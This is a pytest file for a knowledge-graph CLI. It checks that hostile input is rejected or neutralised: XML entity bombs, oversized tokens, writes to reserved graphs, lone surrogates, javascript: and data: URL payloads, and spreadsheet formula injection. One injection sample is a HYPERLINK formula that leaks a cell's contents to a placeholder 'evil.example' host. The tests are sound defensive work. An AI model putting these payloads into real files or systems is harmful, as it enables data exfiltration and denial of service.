"""Hostile input found by a probe (issue 11, defects 2-11 and 13): each one refused or made
harmless, with one line naming the file, the rest of the batch going on and the store whole.
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
import unicodedata
from pathlib import Path

import networkx as nx
import pytest
from click.testing import CliRunner
from helpers.paths import REPO

from kg.cli import cli
from kg.errors import EXIT_REJECTED
from kg.store import open_store
from scripts.hostile_data import laughs, register


def _base_triples() -> int:
    """Triples of the ontology and reference graphs that every import ensures."""
    from kg.ingest.base_graphs import ensure_base_graphs

    with open_store("memory:") as s:
        ensure_base_graphs(s)
        return s.count()


_BASE_TRIPLES = _base_triples()


def run(*args: str) -> object:
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


# --- 2: sentence splitting is linear in a run of punctuation ------------------------------

_LINEAR_PROBE = """
import sys, time
from kg.extract.sentences import split_sentences
def best(n, ch):
    text = "a" + ch * n + "x"
    return min(_t(text) for _ in range(5 if n > 100_000 else 20))
def _t(text):
    t = time.perf_counter(); split_sentences(text); return time.perf_counter() - t
small = {ch: best(10_000, ch) for ch in ".!?"}
big = {ch: best(1_000_000, ch) for ch in ".!?"}
print(max(big[ch] / small[ch] for ch in ".!?"))
"""


def test_sentence_splitting_of_a_long_punctuation_run_is_linear() -> None:
    """1 MB of '.', '!' or '?' costs at most 20x the linear share of a 10 KB run.

    Linear work gives a ratio near 100 (180-400 measured on a loaded 2-core machine); the
    quadratic splitter gave 10,000 (and the 1 MB run took hours: the subprocess is cut at
    120 s).  Only the ratio is asserted, never a time.
    """
    try:
        proc = subprocess.run(
            [sys.executable, "-c", _LINEAR_PROBE], capture_output=True, text=True, timeout=120, cwd=REPO
        )
    except subprocess.TimeoutExpired:
        pytest.fail("splitting 1 MB of punctuation did not finish in 120 s (quadratic)")
    assert proc.returncode == 0, proc.stderr
    assert float(proc.stdout) < 2000, f"1 MB / 10 KB time ratio {proc.stdout.strip()} (linear is ~100)"


def test_punctuation_runs_still_end_sentences() -> None:
    from kg.extract.sentences import split_sentences

    text = "It was signed!!! Then it was not?! Fine... ok. End"
    spans = [text[a:b] for a, b in split_sentences(text)]
    assert spans == ["It was signed!!!", "Then it was not?!", "Fine... ok.", "End"]


# --- 3 and 8: RDF/XML entities, oversized tokens -----------------------------------------


def test_rdfxml_entity_declarations_are_refused_naming_the_file(tmp_path: Path) -> None:
    bomb = tmp_path / "laughs.rdf"
    bomb.write_text(laughs(5), encoding="utf-8")  # 5 levels: 200 KB once expanded (8 took 3 GB)
    good = tmp_path / "good.ttl"
    good.write_text('<http://e/s> <http://e/p> "ok" .\n', encoding="utf-8")
    store = str(tmp_path / "store")
    res = CliRunner().invoke(cli, ["--store", store, "import", "rdf", str(bomb), str(good)])
    assert res.exit_code == EXIT_REJECTED, res.output
    errors = [line for line in res.output.splitlines() if line.startswith("error:")]
    assert errors == [f"error: {bomb}:3: " + errors[0].split(":3: ", 1)[1]] and "ENTITY" in errors[0]
    assert "imported 1 file(s)" in res.output
    # nothing pending or half-written: read-only commands work at once
    stats = CliRunner().invoke(cli, ["--store", store, "stats", "--json"])
    assert stats.exit_code == 0, stats.output
    # the good file: 1 triple + 3 of file metadata (+ the base graphs every import ensures)
    assert json.loads(stats.output)["triples"] == 4 + _BASE_TRIPLES
    q = CliRunner().invoke(cli, ["--store", store, "query", "--format", "csv", "ASK { ?s ?p 'ha' }"])
    assert q.exit_code == 0 and q.output.strip() == "false", q.output


def test_turtle_token_over_16_mib_names_the_file_and_the_next_file_imports(tmp_path: Path) -> None:
    big = tmp_path / "big.ttl"
    with big.open("w", encoding="utf-8") as fh:
        fh.write('<http://e/s> <http://e/p> "')
        fh.write("a" * (17 * 2**20))
        fh.write('" .\n')
    good = tmp_path / "good.ttl"
    good.write_text('<http://e/s> <http://e/p> "ok" .\n', encoding="utf-8")
    store = str(tmp_path / "store")
    res = CliRunner().invoke(cli, ["--store", store, "import", "rdf", str(big), str(good)])
    assert res.exit_code == EXIT_REJECTED, res.output
    assert f"error: {big}: too large to parse" in res.output
    assert "imported 1 file(s)" in res.output
    stats = CliRunner().invoke(cli, ["--store", store, "stats", "--json"])
    assert json.loads(stats.output)["triples"] == 4 + _BASE_TRIPLES  # + the base graphs


# --- 13 (ii): kg's own graphs are reserved --------------------------------------------------


def test_import_rdf_into_the_reference_graph_is_refused_unless_forced(tmp_path: Path) -> None:
    from kg.vocab import iris

    trig = tmp_path / "evil.trig"
    trig.write_text(
        f'GRAPH <{iris.REFERENCE_GRAPH}> {{ <http://e/s> <http://e/p> "replaced" . }}\n', encoding="utf-8"
    )
    store = str(tmp_path / "store")
    with open_store(store) as s:
        from kg.ingest.base_graphs import ensure_base_graphs

        ensure_base_graphs(s)
        before = s.count(iris.REFERENCE_GRAPH)
    assert before > 1000
    res = CliRunner().invoke(cli, ["--store", store, "import", "rdf", str(trig)])
    assert res.exit_code == EXIT_REJECTED
    assert f"error: {trig}: graph <{iris.REFERENCE_GRAPH}> is one of kg's own graphs" in res.output
    with open_store(store, read_only=True) as s:
        assert s.count(iris.REFERENCE_GRAPH) == before
    res = CliRunner().invoke(cli, ["--store", store, "import", "rdf", "--force", str(trig)])
    assert res.exit_code == 0, res.output
    with open_store(store, read_only=True) as s:
        assert s.count(iris.REFERENCE_GRAPH) == 1


@pytest.mark.parametrize("graph", ["graph/ontology", "graph/links", "source/release/x", "source/article/y"])
def test_every_graph_kg_mints_is_reserved(tmp_path: Path, graph: str) -> None:
    from kg.ingest.rdf import import_rdf
    from kg.vocab.ns import ID

    trig = tmp_path / "g.trig"
    trig.write_text(f'GRAPH <{ID[graph]}> {{ <http://e/s> <http://e/p> "x" . }}\n', encoding="utf-8")
    with open_store("memory:") as s:
        report = import_rdf(s, [trig])
        assert not report.written and len(report.errors) == 1
        assert s.count() == 0


# --- 4: a worse SIPRI file never replaces a good release -----------------------------------


def deals(store: str) -> int:
    with open_store(store, read_only=True) as s:
        return s.stats()["deals"]


def test_sipri_reimport_with_every_row_broken_keeps_the_release(tmp_path: Path) -> None:
    store = str(tmp_path / "store")
    assert (
        run("--store", store, "import", "sipri", "-q", str(register(tmp_path / "good.csv", 10))).exit_code
        == 0
    )
    assert deals(store) == 10
    bad = register(tmp_path / "bad.csv", 10, broken=10)
    res = CliRunner().invoke(cli, ["--store", store, "import", "sipri", str(bad)])
    assert res.exit_code == EXIT_REJECTED, res.output
    assert f"error: {bad}: no usable rows" in res.output
    assert deals(store) == 10
    forced = CliRunner().invoke(cli, ["--store", store, "import", "sipri", "--force", str(bad)])
    assert forced.exit_code == 0, forced.output
    assert deals(store) == 0


def test_sipri_reimport_under_half_the_release_is_rejected(tmp_path: Path) -> None:
    store = str(tmp_path / "store")
    run("--store", store, "import", "sipri", "-q", str(register(tmp_path / "good.csv", 10)))
    bad = register(tmp_path / "bad.csv", 10, broken=7)  # 3 of 10 rows usable
    res = CliRunner().invoke(cli, ["--store", store, "import", "sipri", str(bad)])
    assert res.exit_code == EXIT_REJECTED, res.output
    assert "under 50% of the" in res.output and "the stored release is kept" in res.output
    assert deals(store) == 10
    ok = register(tmp_path / "ok.csv", 10, broken=2)  # 8 of 10: a real correction, accepted
    assert CliRunner().invoke(cli, ["--store", store, "import", "sipri", str(ok)]).exit_code == 0
    assert deals(store) == 8


def test_new_sipri_release_far_smaller_than_the_latest_of_its_register_is_rejected(tmp_path: Path) -> None:
    """Same title line and file name (a fresh download of the export); another file name is
    another table (SIPRI's TIV tables share one title) and is not compared."""
    store = str(tmp_path / "store")
    (tmp_path / "oct").mkdir()
    (tmp_path / "feb").mkdir()
    run("--store", store, "import", "sipri", "-q", str(register(tmp_path / "oct" / "register.csv", 10)))
    newer = register(tmp_path / "feb" / "register.csv", 3, when="2 Feb 2026 9:00:00 AM")  # cut off
    res = CliRunner().invoke(cli, ["--store", store, "import", "sipri", str(newer)])
    assert res.exit_code == EXIT_REJECTED, res.output
    assert "latest stored release of this register" in res.output
    other = register(tmp_path / "feb" / "other-table.csv", 3, when="3 Feb 2026 9:00:00 AM")
    assert CliRunner().invoke(cli, ["--store", store, "import", "sipri", str(other)]).exit_code == 0
    assert (
        CliRunner().invoke(cli, ["--store", store, "import", "sipri", "--force", str(newer)]).exit_code == 0
    )


# --- 5 and 11: one writer: devices written through, '-' is stdout, mode 0644 -------------


def test_output_onto_a_device_node_writes_through_and_keeps_the_node(tmp_path: Path) -> None:
    from kg.io.atomicwrite import write_atomic

    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    reader = subprocess.Popen(["cat", str(fifo)], stdout=subprocess.PIPE)
    write_atomic(fifo, "through the fifo")
    assert reader.communicate(timeout=10)[0] == b"through the fifo"
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    null = Path("/dev/null")
    write_atomic(null, "gone")
    assert stat.S_ISCHR(null.stat().st_mode)
    assert not [p for p in null.parent.glob(".null.*.tmp")]


def test_view_onto_a_character_device_keeps_it(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("creating a device node needs root")
    node = tmp_path / "null"
    os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    store = str(tmp_path / "store")
    with open_store(store) as s:
        s.update("INSERT DATA { GRAPH <http://e/g> { <http://e/a> <http://e/b> 'c' } }")
    res = CliRunner().invoke(cli, ["--store", store, "view", "network", "-o", str(node)])
    assert res.exit_code == 0, res.output
    assert stat.S_ISCHR(node.stat().st_mode)
    res = CliRunner().invoke(cli, ["--store", store, "export", "-o", str(node)])
    assert res.exit_code == 0 and stat.S_ISCHR(node.stat().st_mode)


def test_dash_means_stdout_for_every_command_with_o(tmp_path: Path) -> None:
    store = str(tmp_path / "store")
    with open_store(store) as s:
        s.update("INSERT DATA { GRAPH <http://e/g> { <http://e/a> <http://e/b> 'c' } }")
    os.chdir(tmp_path)
    export = CliRunner().invoke(cli, ["--store", store, "export", "--format", "nq", "-o", "-"])
    assert export.exit_code == 0 and '<http://e/a> <http://e/b> "c" <http://e/g> .' in export.output
    view = CliRunner().invoke(cli, ["--store", store, "view", "network", "-o", "-"])
    assert view.exit_code == 0 and view.stdout.lstrip().lower().startswith("<!doctype html")
    net = CliRunner().invoke(cli, ["--store", store, "network", "export", "--format", "csv", "-o", "-"])
    assert net.exit_code == 0 and net.stdout.startswith("supplier,supplier_label,buyer")
    report = CliRunner().invoke(
        cli, ["--store", store, "report", "diversification", "--buyer", "x", "-o", "-"]
    )
    assert report.exit_code == 2 and "stdout" in report.output
    assert not (tmp_path / "-").exists()


def test_every_output_file_is_0644_minus_the_umask(tmp_path: Path) -> None:
    store = str(tmp_path / "store")
    with open_store(store) as s:
        s.update("INSERT DATA { GRAPH <http://e/g> { <http://e/a> <http://e/b> 'c' } }")
    old = os.umask(0o022)
    try:
        run("--store", store, "export", "-o", str(tmp_path / "all.trig"))
        run("--store", store, "network", "export", "--format", "gexf", "-o", str(tmp_path / "n.gexf"))
        run("--store", store, "view", "network", "-o", str(tmp_path / "n.html"))
        os.umask(0o077)
        run("--store", store, "export", "-o", str(tmp_path / "private.trig"))
    finally:
        os.umask(old)
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in tmp_path.iterdir() if p.is_file()}
    assert modes == {"all.trig": 0o644, "n.gexf": 0o644, "n.html": 0o644, "private.trig": 0o600}


def test_the_writers_are_one_function() -> None:
    """No module but kg.io.atomicwrite creates temp files for output (one writer, one mode)."""
    offenders = [
        str(p.relative_to(REPO))
        for p in (REPO / "kg").rglob("*.py")
        if p.name != "atomicwrite.py" and ("mkstemp(" in p.read_text() or "os.replace(" in p.read_text())
    ]
    assert offenders == []


# --- 6 and 9: lone surrogates, NFD text; 13 (iii): only http(s) URLs ---------------------


def test_jsonl_with_a_lone_surrogate_imports_the_other_articles(tmp_path: Path) -> None:
    good = {
        "title": "A",
        "text": "In 2024 India ordered 36 Rafale jets from France.",
        "url": "https://e.org/a",
    }
    bad = '{"title": "T \\ud800 x", "text": "Egypt ordered 24 Rafale jets from France.", "url": "https://e.org/b"}'
    good2 = {"title": "C", "text": "Greece ordered 18 Rafale jets from France.", "url": "https://e.org/c"}
    batch = tmp_path / "batch.jsonl"
    batch.write_text(json.dumps(good) + "\n" + bad + "\n" + json.dumps(good2) + "\n", encoding="utf-8")
    store = str(tmp_path / "store")
    res = CliRunner().invoke(cli, ["--store", store, "import", "articles", str(batch)])
    assert res.exit_code == 0, res.output
    assert f"warning: {batch}:2: lone surrogate(s) in 'title' replaced by U+FFFD" in res.output
    assert "imported 3 article(s)" in res.output
    with open_store(store, read_only=True) as s:
        titles = {
            str(r["t"]) for r in s.select("SELECT ?t { GRAPH ?g { ?a <https://schema.org/headline> ?t } }")
        }
    assert titles == {"A", "T \ufffd x", "C"}


@pytest.mark.parametrize("field", ["text", "url"])
def test_lone_surrogate_in_text_or_url_does_not_stop_the_batch(tmp_path: Path, field: str) -> None:
    from kg.ingest.articles import import_articles

    doc = {"title": "T", "text": "Chile ordered 4 Rafale jets from France.", "url": "https://e.org/x"}
    line = json.dumps(doc).replace(json.dumps(doc[field])[:-1], json.dumps(doc[field])[:-1] + "\\udfff", 1)
    batch = tmp_path / "b.jsonl"
    batch.write_text(line + "\n" + json.dumps({"text": "Peru ordered 2 Rafale jets from France."}) + "\n")
    with open_store("memory:") as s:
        report = import_articles(s, [batch], link_after=False)
    assert len(report.written) == 2 and not report.errors
    assert any(f"{batch}:1: lone surrogate" in w for w in report.warnings)


def test_nfd_text_gives_the_same_claims_as_nfc(tmp_path: Path) -> None:
    from kg.extract import article_from_text, extract

    sentence = "Türkiye ordered 36 Rafale jets from France in 2025, the ministry said."
    nfd = unicodedata.normalize("NFD", sentence)
    assert nfd != sentence
    claims = extract(article_from_text(nfd))
    assert [(c.to_dict()["buyer"]["iso3"], c.to_dict()["quantity"]) for c in claims] == [("TUR", 36)]
    path = tmp_path / "nfd.md"
    path.write_text(nfd + "\n", encoding="utf-8")
    res = CliRunner().invoke(cli, ["extract", "--format", "json", str(path)])
    docs = json.loads(res.stdout)
    evidence = docs[0]["claims"][0]["evidence"]
    assert evidence["text"] == sentence  # offsets index the stored (NFC) text
    assert evidence["start"] == 0 and evidence["end"] == len(sentence)


@pytest.mark.parametrize("url", ["javascript:alert(document.domain)", "data:text/html,<script>x</script>"])
def test_only_http_urls_are_stored_as_schema_url(tmp_path: Path, url: str) -> None:
    doc = {"title": "T", "text": "Chile ordered 4 Rafale jets from France.", "url": url}
    path = tmp_path / "a.json"
    path.write_text(json.dumps(doc), encoding="utf-8")
    store = str(tmp_path / "store")
    res = CliRunner().invoke(cli, ["--store", store, "import", "articles", str(path)])
    assert res.exit_code == 0 and "not http(s); not stored as schema:url" in res.output
    with open_store(store, read_only=True) as s:
        assert not s.ask("ASK { GRAPH ?g { ?a <https://schema.org/url> ?u } }")


# --- 10: disk full is one line ------------------------------------------------------------


def test_disk_full_is_one_line_and_the_store_recovers(tmp_path: Path) -> None:
    """A real full disk: a 500 KB tmpfs in a private mount namespace (needs root and unshare)."""
    if os.geteuid() != 0 or shutil.which("unshare") is None:
        pytest.skip("mounting a small tmpfs needs root and unshare")
    if subprocess.run(["unshare", "-m", "true"], capture_output=True).returncode != 0:
        pytest.skip("no mount namespaces here")
    full = tmp_path / "full"
    full.mkdir()
    script = (
        f"mount -t tmpfs -o size=500k tmpfs {full} || exit 99\n"
        f"{sys.executable} -m kg --store {full}/s import articles {REPO / 'data' / 'articles'}\n"
        f"rc=$?; cp -a {full}/s {tmp_path}/s; exit $rc\n"
    )
    proc = subprocess.run(["unshare", "-m", "sh", "-c", script], capture_output=True, text=True, timeout=300)
    if proc.returncode == 99:
        pytest.skip("tmpfs mount refused")
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error:") and "No space left" in lines[0], proc.stderr
    again = CliRunner().invoke(
        cli, ["--store", str(tmp_path / "s"), "import", "articles", str(REPO / "data" / "articles")]
    )
    assert again.exit_code == 0, again.output
    assert deals(str(tmp_path / "s")) > 0


# --- 13 (i): CSV/TSV for spreadsheets ----------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"S-400")'


def test_query_csv_and_tsv_neutralise_formulas_but_keep_numbers(tmp_path: Path) -> None:
    store = str(tmp_path / "store")
    with open_store(store) as s:
        s.update(
            "INSERT DATA { GRAPH <http://e/g> { <http://e/a> <http://e/l> "
            + json.dumps(EVIL)
            + ", '+1+cmd', '@SUM(A1)', '-x', 'plain' ; <http://e/n> -3, 2.5 } }"
        )
    q = "SELECT ?v WHERE { GRAPH ?g { ?s ?p ?v } } ORDER BY STR(?v)"
    for fmt in ("csv", "tsv"):
        res = CliRunner().invoke(cli, ["--store", store, "query", "--format", fmt, q])
        cells = set(res.stdout.splitlines()[1:])
        assert "'+1+cmd" in cells and "'@SUM(A1)" in cells and "'-x" in cells and "plain" in cells
        assert "-3" in cells and "2.5" in cells
        assert not any(c.lstrip('"').startswith(("=", "+1", "@")) for c in cells), cells
    raw = CliRunner().invoke(cli, ["--store", store, "query", "--format", "csv", "--raw-csv", q])
    assert "+1+cmd" in raw.stdout.splitlines()[1:]


def test_network_csv_export_neutralises_formula_labels(tmp_path: Path) -> None:
    from kg.analysis.network import export_graph

    g = nx.DiGraph()
    g.add_node("http://e/s", label=EVIL)
    g.add_node("http://e/b", label="-Buyer")
    g.add_edge(
        "http://e/s",
        "http://e/b",
        deals=1,
        tiv=-2.0,
        value_usd=0,
        valued_deals=0,
        sources=1,
        articles=0,
        releases=1,
        corroborated=False,
        order_years=[],
        delivery_years=[],
        statuses={},
        systems=[],
    )
    out = tmp_path / "n.csv"
    export_graph(g, out, "csv")
    import csv

    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert rows[1][1] == "'" + EVIL and rows[1][3] == "'-Buyer" and rows[1][5] == "-2"
    export_graph(g, out, "csv", raw_csv=True)
    assert list(csv.reader(out.open(encoding="utf-8")))[1][1] == EVIL
